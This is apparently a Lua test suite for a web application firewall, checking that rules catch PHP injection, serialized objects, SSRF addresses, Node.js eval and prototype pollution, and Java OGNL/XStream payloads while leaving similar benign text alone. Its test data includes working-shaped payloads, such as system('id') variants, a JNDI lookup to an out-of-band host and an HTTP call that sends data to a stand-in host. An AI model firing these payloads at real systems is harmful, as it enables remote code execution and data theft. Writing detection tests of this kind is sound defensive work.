local rule_checks = require "rule_checks"

-- PHP injection, Java and the generic families (Node.js, prototype pollution, SSRF): the rules added or
-- widened for them, value by value through the real rules, with benign values sharing their words.
describe("edge.waf.rules PHP, Java, Node.js and SSRF shapes", function()
    local caught_by, clean

    setup(function()
        caught_by, clean = rule_checks.new(assert)
    end)

    it("133100: a PHP function name built from pieces, escapes, decoders or split by comments", function()
        caught_by(133100, {
            "'sys'.'tem'('ls')", "(\"pass\" . \"thru\")(\"id\");", "chr(101).chr(120).chr(101).chr(99)",
            "\"\\x65\\x78\\x65\\x63\"('id')", "'\\163\\171\\163'('x')", "base64_decode('c3lzdGVt')('id')",
            "strrev('metsys')($_GET[1])", "system/**/('id');", "passthru /* a */ /* b */ ('w')",
            "assert#x\n('1')",
        })
    end)

    it("133110: a PHP callback naming a command function, or a PHP function on attacker data", function()
        caught_by(133110, {
            "call_user_func_array('system', ['id'])", "array_filter(['id'], 'passthru')",
            "register_shutdown_function('exec', 'x');", "usort($a, \"system\")", "show_source('a.php')",
            "ini_set('allow_url_include', 1)", "putenv('LD_PRELOAD=/tmp/x.so')", "var_dump($GLOBALS)",
            "$HTTP_RAW_POST_DATA", "mail('a@b.c','','','','-X/x.php')",
        })
    end)

    it("133120: a serialized PHP object or array, in any spacing", function()
        caught_by(133120, {
            "O:4:\"User\":0:{}", "O:+8:\"Example1\":1:{s:1:\"a\";i:1;}", "O : 3 : \"Foo\" : 0 : { }",
            "x=1;O:9:\"Exception\":0:{}", "a:2:{i:0;s:1:\"x\";}", "C:11:\"ArrayObject\":3:{x:i}",
            "O:15:\"GuzzleHttp\\Psr7\\FnStream\":1:{}",
        })
    end)

    it("131220, 131230, widened 131200/131210: spelled addresses, probes, internal names", function()
        caught_by(131220, { "http://①②⑦.⓪.⓪.①/", "http://127。0。0。1/", "http://10｡0｡0｡1/" })
        caught_by(131230, { "http://x.burpcollaborator.net/", "${jndi:ldap://abc.oastify.com/a}" })
        caught_by(131200, { "http://consul.service.consul:8500/v1/agent/self", "http://printer.local/",
            "http://db.intranet/" })
        caught_by(131210, { "http://192.0.0.192/latest/", "sftp://attacker.example:22/" })
    end)

    it("135130, widened 135100/135110: code strings to evaluators, process control, prototypes", function()
        caught_by(135130, {
            "Function('return process')()", "Reflect.construct(Function, ['return process'])()",
            "vm.runInThisContext('process')", "new vm.Script('x')", "eval(Buffer.from('eA==','base64').toString())",
            "setTimeout(atob('eA=='))", "process.kill(process.pid)",
        })
        caught_by(135100, { "require('http').get('http://a.example/'+x)" })
        caught_by(135110, { "user[constructor][prototype][role]=admin", "Object.assign(Object.prototype, {a: 1})",
            "Object.defineProperty(Object.prototype,'x',{value:1})", "a[__proto__][admin]=1",
            "a[__pro__proto__to__][x]=1", "{\"__proto__\": {\"isAdmin\": true}}" })
    end)

    it("144130, 144140: OGNL chains, EL implicit objects, class loaders, XStream gadgets", function()
        caught_by(144130, {
            "(#_='multipart/form-data').(#cmd='id')", "${applicationScope}", "#{sessionScope.user}",
            "Thread.currentThread().getContextClassLoader()", "x.loadClass(\"a\")",
            "class['module']['classLoader']['resources']",
        })
        caught_by(144100, { "new ProcessBuilder(\"calc.exe\").start()", "Runtime.getRuntime().exec(cmd)" })
        caught_by(144140, {
            "<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface></dynamic-proxy></sorted-set>",
            "<map><entry><jdk.nashorn.internal.objects.NativeString/></entry></map>",
        })
    end)

    it("leaves prose and links about the same code alone", function()
        clean({
            "PHP's serialize() output looks like a:2:{...} but don't store that in cookies",
            "the system test is in the exec summary (page 2)", "composer require guzzlehttp/guzzle",
            "the constructor in that class sets up the prototype chain", "process.env is read at startup",
            "use require('express') and require('cors')", "setTimeout with a function, never with a string",
            "Java 21 threads; the class loader leak in Tomcat is fixed", "log4j 2.17 everywhere now",
            "https://www.php.net/manual/en/", "https://nodejs.org/api/child_process.html",
            "https://docs.oracle.com/javase/8/docs/api/java/lang/Runtime.html", "http://example.com/",
            "meeting at 10.0 on Friday, room 127", "the expect library for tests is chai",
            "Dear Sir, please find attached the ${amount} invoice", "mail from the printer says toner low",
            "O'Neil: 3 tickets (row A: 2)", "the dev server is http://localhost:3000 in the readme",
            "return process documents by Friday",
            "the ProcessBuilder (java.lang) API docs",
        })
    end)
end)
